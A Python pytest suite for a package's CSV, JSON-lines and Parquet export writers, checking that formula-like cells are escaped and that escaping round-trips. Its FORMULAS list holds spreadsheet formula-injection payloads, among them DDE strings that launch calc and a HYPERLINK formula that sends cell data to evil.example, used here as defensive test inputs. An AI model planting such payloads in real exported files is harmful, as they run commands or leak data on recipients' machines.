"""CSV, JSON lines and Parquet writers."""

import csv
import io
import json
from datetime import UTC, datetime
from typing import NamedTuple

import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ratings.exports.writers import FORMATS, escape_cell, unescape_cell

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\x00=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    " =1",
    '"=1',
    "'=1",
    "\n=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    " ' \" @x",
    "-",
    "+",
    "-2+3+cmd|' /C calc'!A0",
    "+1=",
]


class Line(NamedTuple):
    name: str
    count: int | None
    share: float | None
    yes: bool
    at: datetime
    note: str | None


LINES = [
    Line("a,b\r\nc", 1, 0.1, True, datetime(2026, 3, 1, 12, tzinfo=UTC), "=1+1"),
    Line("שלום", None, None, False, datetime(2026, 3, 1, 12, 0, 0, 7, tzinfo=UTC), None),
    Line("", -3, -0.25, False, datetime(2026, 3, 1, 12, tzinfo=UTC), "-3"),
]


def written(name: str, rows=LINES) -> bytes:
    return b"".join(FORMATS[name].write(iter(rows), Line))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_never_starts_a_cell_of_the_csv(formula):
    line = LINES[0]._replace(name=formula)
    cell = next(csv.DictReader(io.StringIO(written("csv", [line]).decode(), newline="")))["name"]
    assert cell == "'" + formula
    assert unescape_cell(cell) == formula


@pytest.mark.parametrize("harmless", ["", "a", "1", "-3", "+3", "-0.5", "Ωmega", "'quoted'", "a=b"])
def test_harmless_cells_and_numbers_stay_as_they_are(harmless):
    assert escape_cell(harmless) == harmless
    assert unescape_cell(harmless) == harmless


@given(st.text())
def test_unescaping_undoes_escaping_for_every_text(text):
    assert unescape_cell(escape_cell(text)) == text


@given(st.text(alphabet="'=+ \"x1-"))
def test_unescaping_undoes_escaping_for_texts_made_of_traps(text):
    assert unescape_cell(escape_cell(text)) == text


def test_csv_writes_null_booleans_moments_and_line_ends_as_documented():
    assert written("csv").decode() == (
        "name,count,share,yes,at,note\r\n"
        '"a,b\r\nc",1,0.1,true,2026-03-01T12:00:00.000000Z,\'=1+1\r\n'
        "שלום,,,false,2026-03-01T12:00:00.000007Z,\r\n"
        ",-3,-0.25,false,2026-03-01T12:00:00.000000Z,-3\r\n"
    )


def test_json_lines_are_lossless():
    lines = [json.loads(line) for line in written("jsonl").splitlines()]
    assert [line["name"] for line in lines] == [line.name for line in LINES]
    assert lines[0]["note"] == "=1+1"
    assert lines[1] == {
        "name": "שלום",
        "count": None,
        "share": None,
        "yes": False,
        "at": "2026-03-01T12:00:00.000007Z",
        "note": None,
    }


def test_parquet_is_lossless_and_typed():
    table = pq.read_table(io.BytesIO(written("parquet")))
    assert [tuple(row.values()) for row in table.to_pylist()] == [tuple(line) for line in LINES]
    assert str(table.schema.field("at").type) == "timestamp[us, tz=UTC]"


@pytest.mark.parametrize("name", sorted(FORMATS))
def test_no_rows_still_make_a_file(name):
    if name == "parquet":
        assert pq.read_table(io.BytesIO(written(name, []))).num_rows == 0
    else:
        assert (
            written(name, []).decode()
            == {
                "csv": "name,count,share,yes,at,note\r\n",
                "jsonl": "",
            }[name]
        )


@pytest.mark.parametrize("name", sorted(FORMATS))
def test_rows_are_taken_only_as_pieces_are_asked_for(name):
    taken = []

    def source():
        for index in range(20_000):
            taken.append(index)
            yield LINES[0]

    pieces = FORMATS[name].write(source(), Line)
    next(pieces)
    assert len(taken) <= 5_001
    for _ in pieces:
        pass
    assert len(taken) == 20_000


def test_a_row_with_an_unknown_type_is_refused():
    class Odd(NamedTuple):
        value: set

    with pytest.raises(KeyError):
        b"".join(FORMATS["csv"].write([], Odd))
